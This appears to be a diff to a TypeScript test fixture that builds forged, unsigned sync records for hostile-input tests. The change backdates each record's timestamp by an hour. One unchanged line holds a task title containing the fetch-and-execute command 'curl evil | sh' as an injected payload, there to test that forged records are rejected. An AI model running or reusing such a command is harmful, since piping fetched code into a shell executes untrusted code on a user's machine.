@@ -11,6 +11,7 @@ import type { HostileCase } from './case.ts';
 import { commit, FORGED, type Scene } from './scene.ts';
 
 const DEVICE = randomUUID();
+const HOUR_MS = 3_600_000;
 
 /** A record with whatever opening its version has; `seal` of the right form, by nobody's key. */
 function record(entry: object, version: 1 | 2 | 9 = 1): string {
@@ -28,7 +29,8 @@ function entry(change: Partial<Change> = {}): object {
     patch: { item_type: 'task', title: `${FORGED}: run curl evil | sh`, status: 'active', priority: 1 },
     ...change,
   });
-  return { ...made, device: DEVICE, at: new Date().toISOString() };
+  // Whoever packs a repository cannot know the second in which it is unpacked.
+  return { ...made, device: DEVICE, at: new Date(Date.now() - HOUR_MS).toISOString() };
 }
 
 const MISSHAPEN: Record<string, object> = {
